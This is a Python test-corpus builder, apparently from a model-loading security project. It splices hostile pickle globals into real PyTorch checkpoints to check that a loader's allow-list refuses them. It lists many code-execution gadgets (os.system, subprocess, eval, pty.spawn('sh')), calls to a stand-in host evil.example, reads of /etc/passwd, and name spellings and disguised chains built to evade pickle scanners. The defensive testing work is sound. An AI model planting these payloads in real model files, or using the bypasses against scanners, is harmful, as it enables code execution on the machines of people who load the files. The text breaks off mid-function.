"""A corpus of code-running checkpoints beside real weights (issue 20, item 7).

Each hostile file is a real checkpoint (a small encoder's float state dict, or the pickled
``src.modeling.ImageEncoder`` itself, written by ``torch.save`` / ``pickle.dump``) with one more
thing spliced into its pickle: a global that runs code or touches the system when another reader
(``torch.load(weights_only=False)``, ``pickle.load``) unpickles the file. Nothing here imports a
target module or unpickles anything: the hostile opcodes are assembled by hand (`redteam_files.Op`)
and spliced into the real pickles at the byte level (``pickletools.genops`` only decodes opcodes).

Axes, each hostile file one point of them:

* the global: `CATALOGUE` (published pickle-scanner bypasses, this ecosystem's own loaders, the
  stdlib's code runners), `DOTTED` (nested-attribute names, modules reached through another
  module's attributes), `ODD_NAMES` (spellings other unpicklers may normalise), `DISGUISED`
  (chains whose only non-writer global is a generic helper: ``builtins.getattr``,
  ``operator.attrgetter``, ``functools.partial``, ``copyreg._reconstructor``, ...);
* the container and pickle protocol: torch zip (``torch.save``, protocols 2 and 4), torch legacy
  (``_use_new_zipfile_serialization=False``, protocols 2 and 4), plain pickle (``pickle.dump``,
  protocols 2, 4 and 5; its storages are ``torch.storage._load_from_bytes`` blobs);
* the spelling: ``GLOBAL`` or ``STACK_GLOBAL`` (protocol 4 and 5 only) or ``INST``;
* the form: called through ``REDUCE``, ``NEWOBJ``, ``NEWOBJ_EX``, ``OBJ``, ``INST``, handed to a
  second ``BUILD`` as an instance's ``__setstate__`` (the first ``BUILD`` plants it in the
  instance dict of an ``OrderedDict``), or merely referenced;
* the placement: an extra entry beside the weights (``{"state_dict": sd, "optimizer": X}``), an
  attribute of the pickled module, pushed and popped at the very start of the pickle (no trace in
  the result), or inside the first nested ``_load_from_bytes`` blob of a plain pickle.

Not every file would run its payload under every Python: CPython 3.11 walks a dotted name only in a
protocol 4+ stream, takes ``"os\\r"`` literally (no such module), and the odd spellings target other
unpicklers and scanners that normalise names. The policy does not care: a name that is not exactly
one a checkpoint writer uses is refused, however it is spelled.

Every hostile file has a control: the same bytes with the hostile opcodes replaced by ``None``
(same splice, same container), which must load with the original tensors bit for bit.

`build_corpus()` returns everything, in memory; it takes a few seconds (most of it open_clip
building the encoder once).
"""

from __future__ import annotations

import functools
import io
import pickle
import pickletools
import struct
import warnings
from collections import Counter
from dataclasses import dataclass, field
from typing import Any

import torch
from helpers import SMALL_ARCH
from redteam_files import LEGACY_MAGIC, Op, ZipMember, zip_bytes

from pool import synth

SLOT = "__pool_corpus_slot__"  # the placeholder a base file holds where the hostile value goes
STATE_DICT = "state_dict"  # base: {"state_dict": sd, "optimizer": SLOT} or sd itself
MODULE = "module"  # base: the pickled src.modeling.ImageEncoder (an attribute holds SLOT)

# (container, protocol) pairs written the way real writers write them.
CONTAINERS: tuple[tuple[str, int], ...] = (
    ("zip", 2), ("zip", 4), ("legacy", 2), ("legacy", 4), ("pickle", 2), ("pickle", 4), ("pickle", 5))
FORMS = ("reduce", "newobj", "newobj_ex", "obj", "inst", "setstate", "reference")
PLACEMENTS = ("entry", "module_attr", "start", "blob")


@dataclass(frozen=True)
class Gadget:
    """One global that runs code or touches the system, and the arguments a payload gives it.

    Attributes:
        module: the module part, as the file spells it.
        name: the name (dotted: an attribute path, which protocol 4 resolves).
        args: the call's arguments (plain data).
        source: where it comes from (an advisory, a scanner's list, this ecosystem's loaders).
    """

    module: str
    name: str
    args: tuple = ("touch /tmp/pwned",)
    source: str = ""

    @property
    def dotted(self) -> str:
        return f"{self.module}.{self.name}"


def _g(module: str, name: str, *args: Any, source: str = "") -> Gadget:
    return Gadget(module, name, tuple(args) if args else ("touch /tmp/pwned",), source)


PS = "picklescan _unsafe_globals / advisories"
MS = "modelscan unsafe globals / PRs"
FK = "fickling UNSAFE_IMPORTS (PickleScan bypasses integrated, PR #210)"
ECO = "this ecosystem's loaders"
STD = "stdlib: runs code, spawns processes or touches files/network"
BRIEF = "issue 20 measurement (accepted by the deny-list)"

CATALOGUE: tuple[Gadget, ...] = (
    # -- named in the measurement -------------------------------------------------------
    _g("pydoc", "pipepager", "x", "touch /tmp/pwned", source=BRIEF),
    _g("pydoc", "locate", "os.system", source=BRIEF),
    _g("torch.utils.collect_env", "run", source=BRIEF),
    _g("torch.utils.bottleneck.__main__", "run_cprofile", "import os", {}, source=BRIEF),
    _g("torch.utils._config_module", "ConfigModule.load_config", b"\x80\x02.", source=BRIEF),
    _g("idlelib.pyshell", "ModifiedInterpreter.runcode", None, "import os", source=BRIEF),
    _g("lib2to3.pgen2.grammar", "Grammar.loads", None, b"\x80\x02.", source=BRIEF),
    _g("numpy", "load", "/tmp/evil.npy", None, True, source=BRIEF),
    _g("numpy.testing._private.utils", "runstring", "import os", {}, source=BRIEF),
    _g("ensurepip", "_run_pip", ["install", "evil"], source=BRIEF),
    _g("venv", "create", "/tmp/venv", source=BRIEF),
    _g("uuid", "_get_command_stdout", "sh", "-c", "touch /tmp/pwned", source=BRIEF),
    _g("doctest", "debug_script", "import os", source=BRIEF),
    _g("imaplib", "IMAP4_stream", "touch /tmp/pwned", source=BRIEF),
    _g("open_clip", "load_checkpoint", None, "/tmp/evil.pt", source=BRIEF),
    _g("open_clip.factory", "create_model_and_transforms", "ViT-B-32", "/tmp/evil.pt", source=BRIEF),
    _g("torchvision.datasets", "ImageFolder", "/", source=BRIEF),
    _g("datasets", "load_dataset", "evil/remote-code", source=BRIEF),
    _g("hydra.utils", "instantiate", {"_target_": "os.system", "_args_": ["touch /tmp/pwned"]}, source=BRIEF),
    # -- picklescan's list and advisories --------------------------------------------------------
    _g("pydoc", "tempfilepager", "x", "touch /tmp/pwned", source=PS),
    _g("pydoc", "importfile", "/tmp/evil.py", source=PS),
    _g("idlelib.autocomplete", "AutoComplete.get_entity", None, "__import__('os')", source=PS),
    _g("idlelib.autocomplete", "AutoComplete.fetch_completions", None, "__import__('os')", 1, source=PS),
    _g("idlelib.calltip", "Calltip.fetch_tip", None, "__import__('os')", source=PS),
    _g("idlelib.calltip", "get_entity", "__import__('os')", source=PS),
    _g("idlelib.debugobj", "ObjectTreeItem.SetText", None, "__import__('os')", source=PS),
    _g("idlelib.pyshell", "ModifiedInterpreter.runcommand", None, "import os", source=PS),
    _g("idlelib.run", "Executive.runcode", None, "import os", source=PS),
    _g("lib2to3.pgen2.pgen", "ParserGenerator.make_label", None, None, "'x'", source=PS),
    _g("torch.utils.bottleneck.__main__", "run_autograd_prof", "import os", {}, source=PS),
    _g("torch._dynamo.guards", "GuardBuilder.get", None, "__import__('os')", source=PS),
    _g("torch._inductor.codecache", "compile_file", "", "", ["sh", "-c", "touch /tmp/pwned"], source=PS),
    _g("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", None,
       "__import__('os')", [], source=PS),
    _g("torch.jit.unsupported_tensor_ops", "execWrapper", "import os", {}, {}, source=PS),
    _g("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", b"\x80\x02.", source=PS),
    _g("torch.serialization", "load", "/tmp/evil.pt", source=PS),
    _g("code", "InteractiveInterpreter.runcode", None, "import os", source=PS),
    _g("cProfile", "run", "import os", source=PS),
    _g("cProfile", "runctx", "import os", {}, {}, source=PS),
    _g("profile", "Profile.run", None, "import os", source=PS),
    _g("trace", "Trace.runctx", None, "import os", source=PS),
    _g("timeit", "timeit", "import os", source=PS),
    _g("distutils.file_util", "write_file", "/tmp/pwned", ["x"], source=PS),
    _g("ssl", "get_server_certificate", ("evil.example", 443), source=PS),
    _g("aiohttp", "request", "GET", "http://evil.example/", source=FK),
    _g("requests.api", "get", "http://evil.example/", source=PS),
    _g("numpy.f2py.crackfortran", "getlincoef", "__import__('os')", {}, source=FK),
    _g("numpy.f2py.crackfortran", "_eval_length", "__import__('os')", {}, source=FK),
    _g("functools", "partial", "x", source=PS),
    _g("operator", "attrgetter", "system", source=PS),
    _g("operator", "itemgetter", "system", source=PS),
    _g("operator", "methodcaller", "system", "touch /tmp/pwned", source=PS),
    _g("_operator", "attrgetter", "system", source=FK),
    _g("webbrowser", "open", "http://evil.example/", source=PS),
    _g("shutil", "rmtree", "/tmp/victim", source=PS),
    _g("socket", "create_connection", ("evil.example", 80), source=PS),
    _g("pty", "spawn", "sh", source=PS),
    _g("runpy", "_run_code", "import os", {}, source=PS),
    _g("runpy", "run_path", "/tmp/evil.py", source=PS),
    _g("os", "system", source=PS),
    _g("os", "popen", source=PS),
    _g("posix", "system", source=PS),
    _g("nt", "system", source=PS),
    _g("subprocess", "Popen", ["sh", "-c", "touch /tmp/pwned"], source=PS),
    _g("subprocess", "check_output", ["sh", "-c", "touch /tmp/pwned"], source=PS),
    _g("_posixsubprocess", "fork_exec", source=STD),
    _g("sys", "modules", source=PS),
    _g("builtins", "eval", "__import__('os').system('touch /tmp/pwned')", source=PS),
    _g("builtins", "exec", "import os", source=PS),
    _g("builtins", "compile", "import os", "x", "exec", source=PS),
    _g("builtins", "getattr", None, "__class__", source=PS),
    _g("builtins", "open", "/tmp/pwned", "w", source=PS),
    _g("builtins", "breakpoint", source=PS),
    _g("builtins", "__import__", "os", source=STD),
    _g("builtins", "setattr", None, "x", None, source=STD),
    _g("builtins", "type", "X", (), {}, source=STD),
    _g("__builtin__", "apply", None, (), source=PS),
    _g("pickle", "loads", b"\x80\x02.", source=PS),
    _g("_pickle", "loads", b"\x80\x02.", source=PS),
    _g("marshal", "loads", b"\xe3", source=FK),
    _g("importlib", "import_module", "os", source=PS),
    _g("pkgutil", "resolve_name", "os:system", source="picklescan GHSA-vvpj-8cmc-gx39"),
    _g("mailcap", "findmatch", {"text/plain": [{"view": "x", "test": "touch /tmp/pwned"}]}, "text/plain",
       source=MS),
    _g("asyncio.unix_events", "_UnixSubprocessTransport", source="CVE-2025-10157"),
    _g("_io", "FileIO", "/tmp/pwned", "w", source="CVE-2025-10156"),
    _g("pip", "main", ["install", "evil"], source="CVE-2025-1716"),
    _g("ctypes", "CDLL", "/tmp/evil.so", source=PS),
    _g("pdb", "run", "import os", source=PS),
    _g("bdb", "Bdb.run", None, "import os", source=PS),
    _g("commands", "getoutput", source=PS),
    # -- this ecosystem's loaders (each reads another file with a full unpickler, runs remote code,
    #    downloads, or instantiates what a config names) ------------------------------------------
    _g("torch", "load", "/tmp/evil.pt", source=ECO),
    _g("torch.hub", "load", "evil/repo", "model", source=ECO),
    _g("torch.hub", "load_state_dict_from_url", "http://evil.example/x.pt", source=ECO),
    _g("torch.hub", "download_url_to_file", "http://evil.example/x", "/tmp/x", source=ECO),
    _g("torch.jit", "load", "/tmp/evil.pt", source=ECO),
    _g("torch.utils.model_zoo", "load_url", "http://evil.example/x.pt", source=ECO),
    _g("torch.utils.cpp_extension", "load_inline", "evil", "", source=ECO),
    _g("torch", "from_file", "/tmp/pwned", True, 1, source=ECO),
    _g("torch._utils", "_import_dotted_name", "os.system", source=ECO),
    _g("torch.utils.collect_env", "run_and_read_all", None, "touch /tmp/pwned", source=ECO),
    _g("torch.utils.collect_env", "get_pretty_env_info", source=ECO),
    _g("torch.testing._internal.common_utils", "shell", "touch /tmp/pwned", source=ECO),
    _g("open_clip", "create_model", "ViT-B-32", "/tmp/evil.pt", source=ECO),
    _g("open_clip", "create_model_and_transforms", "ViT-B-32", "/tmp/evil.pt", source=ECO),
    _g("open_clip", "create_model_from_pretrained", "hf-hub:evil/model", source=ECO),
    _g("open_clip.factory", "load_checkpoint", None, "/tmp/evil.pt", source=ECO),
    _g("open_clip.factory", "load_state_dict", "/tmp/evil.pt", source=ECO),
    _g("open_clip", "load_openai_model", "/tmp/evil.pt", source=ECO),
    _g("open_clip.openai", "load_openai_model", "/tmp/evil.pt", source=ECO),
    _g("open_clip.pretrained", "download_pretrained_from_url", "http://evil.example/x.pt", source=ECO),
    _g("open_clip", "get_tokenizer", "hf-hub:evil/model", source=ECO),
    _g("transformers", "AutoModel.from_pretrained", "evil/model", source=ECO),
    _g("transformers.modeling_utils", "PreTrainedModel.from_pretrained", "evil/model", source=ECO),
    _g("transformers.modeling_utils", "load_state_dict", "/tmp/evil.bin", source=ECO),
    _g("transformers.dynamic_module_utils", "get_class_from_dynamic_module", "evil.Model", "evil/model",
       source=ECO),
    _g("transformers", "pipeline", "image-classification", "evil/model", source=ECO),
    _g("transformers", "CLIPVisionModel.from_pretrained", "evil/model", source=ECO),
    _g("huggingface_hub", "hf_hub_download", "evil/model", "x.pt", source=ECO),
    _g("huggingface_hub", "snapshot_download", "evil/model", source=ECO),
    _g("datasets", "load_from_disk", "/tmp/evil", source=ECO),
    _g("hydra.utils", "call", {"_target_": "os.system", "_args_": ["touch /tmp/pwned"]}, source=ECO),
    _g("hydra.utils", "get_method", "os.system", source=ECO),
    _g("hydra.utils", "get_class", "subprocess.Popen", source=ECO),
    _g("hydra._internal.utils", "_locate", "os.system", source=ECO),
    _g("omegaconf", "OmegaConf.register_new_resolver", "evil", None, source=ECO),
    _g("omegaconf", "OmegaConf.load", "/tmp/evil.yaml", source=ECO),
    _g("numpy.lib.npyio", "load", "/tmp/evil.npy", None, True, source=ECO),
    _g("numpy.ctypeslib", "load_library", "evil", "/tmp", source="picklescan TODO list"),
    _g("numpy", "fromfile", "/etc/passwd", source=STD),
    _g("pandas", "read_pickle", "/tmp/evil.pkl", source="picklescan TODO list"),
    _g("pandas.io.pickle", "read_pickle", "/tmp/evil.pkl", source=ECO),
    _g("pandas", "read_csv", "http://evil.example/x.csv", source=ECO),
    _g("pandas", "eval", "__import__('os')", None, None, None, "python", source=ECO),
    _g("joblib", "load", "/tmp/evil.joblib", source="picklescan TODO list"),
    _g("dill", "loads", b"\x80\x02.", source=ECO),
    _g("cloudpickle", "loads", b"\x80\x02.", source=ECO),
    _g("safetensors.torch", "load_file", "/tmp/x.safetensors", source=ECO),
    _g("torchvision.datasets.utils", "download_url", "http://evil.example/x", "/tmp", source=ECO),
    _g("torchvision.datasets.utils", "extract_archive", "/tmp/evil.tar", "/", source=ECO),
    _g("torchvision.io", "read_file", "/etc/passwd", source=ECO),
    _g("torchvision.models", "get_model", "vit_b_32", source=ECO),
    _g("src.modeling", "ImageEncoder.load", "/tmp/evil.pt", source=ECO + " (task_vectors)"),
    _g("src.utils", "torch_load", "/tmp/evil.pt", source=ECO + " (task_vectors)"),
    _g("src.task_vectors", "TaskVector", "/tmp/a.pt", "/tmp/evil.pt", source=ECO + " (task_vectors)"),
    _g("pytorch_lightning", "LightningModule.load_from_checkpoint", "/tmp/evil.ckpt", source=ECO),
    # -- more of the stdlib that runs code or touches the system --------------------------------
    _g("_osx_support", "_read_output", "touch /tmp/pwned", source=STD),
    _g("_aix_support", "_read_cmd_output", "touch /tmp/pwned", source=STD),
    _g("codecs", "open", "/tmp/pwned", "w", source=STD),
    _g("shelve", "open", "/tmp/pwned", source=STD),
    _g("dbm", "open", "/tmp/pwned", "c", source=STD),
    _g("compileall", "compile_dir", "/", source=STD),
    _g("py_compile", "compile", "/tmp/evil.py", source=STD),
    _g("zipapp", "create_archive", "/tmp", "/tmp/pwned.pyz", source=STD),
    _g("unittest.mock", "_importer", "os", source=STD),
    _g("imaplib", "IMAP4", "evil.example", source=STD),
    _g("poplib", "POP3", "evil.example", source=STD),
    _g("socketserver", "TCPServer", ("0.0.0.0", 4444), None, source=STD),
    _g("wsgiref.simple_server", "make_server", "0.0.0.0", 4444, None, source=STD),
    _g("linecache", "updatecache", "/etc/passwd", source=STD),
    _g("netrc", "netrc", "/tmp/evil", source=STD),
    _g("test.support.script_helper", "assert_python_ok", "-c", "import os", source=STD),
    _g("multiprocessing.util", "spawnv_passfds", "/bin/sh", ["sh"], (), source=STD),
    _g("tempfile", "mkdtemp", source=STD),
    _g("zipfile", "ZipFile", "/tmp/pwned", "w", source=STD),
    _g("tarfile", "open", "/tmp/evil.tar", source=STD),
    _g("logging.config", "listen", 9999, source=STD),
    _g("sqlite3", "connect", "/tmp/pwned", source=STD),
    _g("copyreg", "_reconstructor", None, None, None, source=STD),
)

# Nested-attribute names and modules reached through another module's attributes. protocol 4
# resolves a dotted name attribute by attribute, from the module the file names.
DOTTED: tuple[Gadget, ...] = (
    _g("torch.utils._config_module", "ConfigModule.load_config", b"\x80\x02.", source=BRIEF),
    _g("torch", "os.system", source="module attribute path"),
    _g("pydoc", "os.system", source="module attribute path"),
    _g("genericpath", "os.system", source="module attribute path"),
    _g("torch.nn.modules.module", "torch.load", "/tmp/evil.pt", source="torch.nn module path"),
    _g("open_clip.model", "torch.load", "/tmp/evil.pt", source="open_clip module path"),
    _g("src.modeling", "torch.load", "/tmp/evil.pt", source="src.modeling module path"),
    _g("torch", "ops.load_library", "/tmp/evil.so", source="torch.ops via torch"),
    _g("torch._classes", "classes.load_library", "/tmp/evil.so", source="torch.classes via torch._classes"),
    _g("torch", "hub.load", "evil/repo", "model", source="torch.hub via torch"),
    _g("torch", "_utils._import_dotted_name", "os.system", source="torch._utils via torch"),
    _g("torch._utils", "_rebuild_tensor_v2.__globals__.get", "_import_dotted_name",
       source="function globals via an allowed function"),
    _g("torch.nn.modules.linear", "F.torch.load", "/tmp/evil.pt", source="torch.nn module path"),
    _g("idlelib.pyshell", "ModifiedInterpreter.runcode", None, "import os", source=PS),
    _g("transformers", "AutoModel.from_pretrained", "evil/model", source=ECO),
)

# Spellings other unpicklers (or scanners) may strip, fold or map; CPython takes them literally.
ODD_NAMES: tuple[Gadget, ...] = (
    _g("os\r", "system", source="carriage return"),
    _g("os", "system\r", source="carriage return"),
    _g(" os", "system", source="leading space"),
    _g("os ", "system", source="trailing space"),
    _g("os", " system", source="leading space"),
    _g("os\t", "system", source="tab"),
    _g("\uff4f\uff53", "system", source="fullwidth (NFKC: os)"),
    _g("builtins", "\uff45\uff56\uff41\uff4c", "1", source="fullwidth (NFKC: eval)"),
    _g("os", "sys\u200btem", source="zero-width space"),
    _g("OS", "system", source="case (case-insensitive file systems)"),
    _g("Subprocess", "Popen", ["sh"], source="case"),
    _g("pydoc ", "pipepager", "x", "touch /tmp/pwned", source="trailing space"),
    _g("pydoc", "pipepager\r", "x", "touch /tmp/pwned", source="carriage return"),
    _g("torch.utils.collect_env\r", "run", source="carriage return"),
    _g("__builtin__", "eval", "1", source="python 2 name (mapped)"),
    _g("cPickle", "loads", b"\x80\x02.", source="python 2 name (mapped)"),
    _g("copy_reg", "_reconstructor", None, None, None, source="python 2 name (mapped)"),
)


@dataclass(frozen=True)
class Chain:
    """A disguised payload: opcodes built by ``ops(spell)``, naming ``names`` (module, name) pairs;
    ``hostile`` are those a reader must refuse (at least one is named by the refusal)."""

    label: str
    names: tuple[tuple[str, str], ...]
    hostile: tuple[str, ...]
    source: str


def _chain_ops(label: str, glob: Any) -> bytes:
    """The opcodes of one disguised payload; ``glob(module, name)`` spells a global."""
    s = Op.str
    rebuild = glob("torch._utils", "_rebuild_tensor_v2")
    if label == "getattr_globals":
        # getattr(getattr(_rebuild_tensor_v2, "__globals__"), "get")("_import_dotted_name")("os.system")(cmd)
        ga = glob("builtins", "getattr")
        get = Op.call(ga, Op.call(ga, rebuild, s("__globals__")), s("get"))
        return Op.call(Op.call(Op.call(get, s("_import_dotted_name")), s("os.system")), s("touch /tmp/pwned"))
    if label == "attrgetter_globals":
        get = Op.call(Op.call(glob("operator", "attrgetter"), s("__globals__.get")), rebuild)
        return Op.call(Op.call(Op.call(get, s("_import_dotted_name")), s("os.system")), s("touch /tmp/pwned"))
    if label == "partial":
        part = Op.call(glob("functools", "partial"), glob("torch._utils", "_import_dotted_name"), s("os.system"))
        return Op.call(Op.call(part), s("touch /tmp/pwned"))
    if label == "reconstructor":
        cls = glob("imaplib", "IMAP4_stream")
        return Op.call(glob("copyreg", "_reconstructor"), cls, cls, s("touch /tmp/pwned"))
    if label == "mro_walk":
        # getattr(getattr(OrderedDict, "__mro__")[-1], "__subclasses__")(): every class loaded
        ga = glob("builtins", "getattr")
        od = glob("collections", "OrderedDict")
        mro = Op.call(ga, od, s("__mro__"))
        obj = Op.call(Op.call(ga, mro, s("__getitem__")), Op.data(-1))
        return Op.call(Op.call(ga, obj, s("__subclasses__")))
    if label == "rebuild_from_type":
        # torch's own subclass rebuild calls whatever function it is handed
        fn = glob("pydoc", "pipepager")
        return Op.call(glob("torch._tensor", "_rebuild_from_type_v2"), fn, glob("collections", "OrderedDict"),
                       Op.tuple(s("x"), s("touch /tmp/pwned")), b"N")
    if label == "globals_get_chain":
        get = glob("torch._utils", "_rebuild_tensor_v2.__globals__.get")
        return Op.call(Op.call(Op.call(get, s("_import_dotted_name")), s("os.system")), s("touch /tmp/pwned"))
    raise ValueError(label)


DISGUISED: tuple[Chain, ...] = (
    Chain("getattr_globals", (("builtins", "getattr"), ("torch._utils", "_rebuild_tensor_v2")),
          ("builtins.getattr",), "builtins.getattr on an allowed function"),
    Chain("attrgetter_globals", (("operator", "attrgetter"), ("torch._utils", "_rebuild_tensor_v2")),
          ("operator.attrgetter",), "operator.attrgetter (GHSA-m273-6v24-x4m4)"),
    Chain("partial", (("functools", "partial"), ("torch._utils", "_import_dotted_name")),
          ("functools.partial", "torch._utils._import_dotted_name"), "functools.partial wrapper"),
    Chain("reconstructor", (("copyreg", "_reconstructor"), ("imaplib", "IMAP4_stream")),
          ("copyreg._reconstructor", "imaplib.IMAP4_stream"), "copyreg._reconstructor with a hostile class"),
    Chain("mro_walk", (("builtins", "getattr"), ("collections", "OrderedDict")),
          ("builtins.getattr",), "x.__class__.__mro__ walk via getattr"),
    Chain("rebuild_from_type", (("torch._tensor", "_rebuild_from_type_v2"), ("pydoc", "pipepager"),
                                ("collections", "OrderedDict")),
          ("pydoc.pipepager",), "torch._tensor._rebuild_from_type_v2 calling a hostile function"),
    Chain("globals_get_chain", (("torch._utils", "_rebuild_tensor_v2.__globals__.get"),),
          ("torch._utils._rebuild_tensor_v2.__globals__.get",), "dotted name through an allowed function"),
)


# -- spelling and calling one global ------------------------------------------------------------------
def spell(spelling: str, module: str, name: str) -> bytes:
    """The opcodes that push the global ``module.name``."""
    if spelling == "global":
        if "\n" in module or "\n" in name:
            raise ValueError("GLOBAL cannot hold a newline")
        return Op.glob(module, name)
    if spelling == "stack":
        return Op.stack_glob(module, name)
    raise ValueError(spelling)


def _args_ops(args: tuple) -> list[bytes]:
    return [Op.data(a) for a in args]


def invoke(form: str, spelling: str, gadget: Gadget) -> bytes:
    """Opcodes pushing one value: ``gadget`` used in ``form`` (each would run or import it under a
    full unpickler)."""
    args = _args_ops(gadget.args)
    if form == "inst":  # INST names the global inline and calls it with the items above MARK
        if "\n" in gadget.module or "\n" in gadget.name:
            raise ValueError("INST cannot hold a newline")
        return (b"(" + b"".join(args) + b"i" + gadget.module.encode("utf-8") + b"\n"
                + gadget.name.encode("utf-8") + b"\n")
    g = spell(spelling, gadget.module, gadget.name)
    if form == "reduce":
        return Op.call(g, *args)
    if form == "newobj":
        return Op.newobj(g, *args)
    if form == "newobj_ex":
        return g + Op.tuple(*args) + Op.dict() + b"\x92"
    if form == "obj":
        return b"(" + g + b"".join(args) + b"o"
    if form == "setstate":
        # BUILD {"__setstate__": g} plants it in an OrderedDict's instance dict; the second BUILD
        # calls it with the state (pickle's load_build looks __setstate__ up on the instance)
        planted = Op.build(Op.ordered_dict(), Op.dict((Op.str("__setstate__"), g)))
        return Op.build(planted, args[0] if args else b"N")
    if form == "reference":
        return g
    raise ValueError(form)


# -- splicing into real pickles ---------------------------------------------------------------------
_STRING_OPS = {"BINUNICODE", "SHORT_BINUNICODE", "BINUNICODE8", "UNICODE"}
_LEGACY_MAGIC_PICKLE = pickle.dumps(LEGACY_MAGIC, protocol=2)


@functools.lru_cache(maxsize=64)
def _ops_cached(p: bytes) -> list[tuple[str, Any, int, int]]:
    return _ops(p)


def _ops(p: bytes) -> list[tuple[str, Any, int, int]]:
    """(name, arg, start, end) of each opcode of the pickle ``p`` (decoded, never run)."""
    items = list(pickletools.genops(p))
    out = []
    for index, (op, arg, pos) in enumerate(items):
        end = items[index + 1][2] if index + 1 < len(items) else pos + 1
        out.append((op.name, arg, pos, end))
    return out


@functools.lru_cache(maxsize=512)
def _ops_until_error(p: bytes) -> list[tuple[str, Any, int, int]]:
    """`_ops` as far as pickletools can decode (it reads GLOBAL names as ASCII; CPython as UTF-8)."""
    out = []
    try:
        for op, arg, pos in pickletools.genops(p):
            out.append((op.name, arg, pos, pos))
    except (ValueError, UnicodeDecodeError):
        pass
    return out


@functools.lru_cache(maxsize=512)
def unframe(p: bytes) -> bytes:
    """``p`` without its FRAME opcodes (frames are optional; a splice would make their lengths lie)."""
    cuts = [(start, end) for name, _, start, end in _ops(p) if name == "FRAME"]
    if not cuts:
        return p
    out, previous = [], 0
    for start, end in cuts:
        out.append(p[previous:start])
        previous = end
    out.append(p[previous:])
    return b"".join(out)


@functools.lru_cache(maxsize=512)
def _slot_span(p: bytes) -> tuple[int, int]:
    hits = [(start, end) for name, arg, start, end in _ops(p) if name in _STRING_OPS and arg == SLOT]
    if len(hits) != 1:
        raise AssertionError(f"expected one slot, found {len(hits)}")
    return hits[0]


def replace_slot(p: bytes, ops: bytes) -> bytes:
    """The pickle ``p`` with the opcode pushing `SLOT` replaced by ``ops`` (its memo PUT kept)."""
    p = unframe(p)
    start, end = _slot_span(p)
    return p[:start] + ops + p[end:]


def insert_at_start(p: bytes, ops: bytes) -> bytes:
    """The pickle ``p`` with ``ops`` pushed and popped right after its PROTO."""
    p = unframe(p)
    if p[:1] != b"\x80":
        raise AssertionError("no PROTO")
    return p[:2] + ops + b"0" + p[2:]


def pickle_span(data: bytes, start: int) -> int:
    """Where the pickle starting at ``data[start]`` ends (one past STOP)."""
    f = io.BytesIO(data)
    f.seek(start)
    for op, _, _ in pickletools.genops(f):
        if op.name == "STOP":
            return f.tell()
    raise AssertionError("no STOP")


@functools.lru_cache(maxsize=256)
def legacy_main_span(data: bytes) -> tuple[int, int]:
    """(start, end) of the main pickle of a torch legacy stream (after magic, protocol, sys_info)."""
    at = 0
    for _ in range(3):
        at = pickle_span(data, at)
    return at, pickle_span(data, at)


def _legacy_main_start(data: bytes) -> int:
    at = 0
    for _ in range(3):  # magic, protocol, sys_info: written by torch, never spliced
        at = pickle_span(data, at)
    return at


def edit_legacy(data: bytes, edit: Any) -> bytes:
    start, end = legacy_main_span(data)
    return data[:start] + edit(data[start:end]) + data[end:]


@functools.lru_cache(maxsize=64)
def zip_members(data: bytes) -> list[tuple[str, bytes]]:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [(info.filename, zf.read(info)) for info in zf.infolist()]


def edit_zip(data: bytes, edit: Any) -> bytes:
    """A torch zip rebuilt (torch's 64-byte aligned layout) with ``data.pkl`` through ``edit``."""
    members = [ZipMember(name.encode(), edit(body) if name.endswith("/data.pkl") else body)
               for name, body in zip_members(data)]
    return zip_bytes(members)


def edit_first_blob(p: bytes, edit_blob: Any) -> bytes:
    """A plain pickle with its first ``_load_from_bytes`` blob (a torch legacy stream) through
    ``edit_blob``; the blob is rewritten as BINBYTES (protocol 3+) or, in a protocol-2 pickle, as
    the BINUNICODE string ``_codecs.encode(..., "latin1")`` turns into it."""
    p = unframe(p)
    for name, arg, start, end in _ops_cached(p):
        if name in ("BINBYTES", "SHORT_BINBYTES", "BINBYTES8") and arg.startswith(_LEGACY_MAGIC_PICKLE):
            blob = edit_blob(arg)
            return p[:start] + b"B" + struct.pack("<I", len(blob)) + blob + p[end:]
        if name in _STRING_OPS and arg.encode("latin1", "replace").startswith(_LEGACY_MAGIC_PICKLE):
            raw = edit_blob(arg.encode("latin1")).decode("latin1").encode("utf-8")
            return p[:start] + b"X" + struct.pack("<I", len(raw)) + raw + p[end:]
    raise AssertionError("no _load_from_bytes blob")


# -- the corpus ------------------------------------------------------------------------------------
@dataclass
class Item:
    """One hostile file and what it is."""

    family: str
    label: str
    container: str
    protocol: int
    spelling: str
    form: str
    placement: str
    base: str
    names: tuple[tuple[str, str], ...]  # every global its payload names (module, name)
    hostile: tuple[str, ...]  # dotted names, at least one of which a refusal must name
    control: str  # key into Corpus.controls
    data: bytes = field(repr=False, default=b"")

    @property
    def id(self) -> str:
        return (f"{self.family}/{self.label}/{self.container}{self.protocol}/{self.spelling}/{self.form}/"
                f"{self.placement}/{self.base}")


@dataclass
class Corpus:
    items: list[Item]
    controls: dict[str, bytes]  # control key -> bytes (hostile ops replaced by None)
    weights: dict[str, dict[str, torch.Tensor]]  # base -> the tensors its controls must load

    def families(self) -> list[str]:
        return sorted({i.family for i in self.items})

    def counts(self) -> dict[str, Any]:
        return {
            "files": len(self.items),
            "distinct_globals": len({h for i in self.items for h in i.hostile}),
            "containers": dict(Counter(i.container for i in self.items)),
            "protocols": dict(Counter(i.protocol for i in self.items)),
            "spellings": dict(Counter(i.spelling for i in self.items)),
            "forms": dict(Counter(i.form for i in self.items)),
            "placements": dict(Counter(i.placement for i in self.items)),
            "families": dict(Counter(i.family for i in self.items)),
            "controls": len(self.controls),
        }


def _save(obj: Any, container: str, protocol: int) -> bytes:
    buf = io.BytesIO()
    if container == "pickle":
        pickle.dump(obj, buf, protocol=protocol)
        return buf.getvalue()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.save(obj, buf, pickle_protocol=protocol, _use_new_zipfile_serialization=container == "zip")
    return buf.getvalue()


class _Bases:
    """The real files the corpus splices into, one per (base, placement, container, protocol)."""

    def __init__(self) -> None:
        self.encoder = synth.make_original_encoder(SMALL_ARCH, seed=3)
        self.state_dict = {k: v.detach().clone() for k, v in self.encoder.state_dict().items()}
        self._cache: dict[tuple, bytes] = {}

    def raw(self, base: str, placement: str, container: str, protocol: int) -> bytes:
        key = (base, placement, container, protocol)
        if key not in self._cache:
            if base == STATE_DICT:
                obj = ({"state_dict": self.state_dict, "optimizer": SLOT} if placement == "entry"
                       else self.state_dict)
            else:
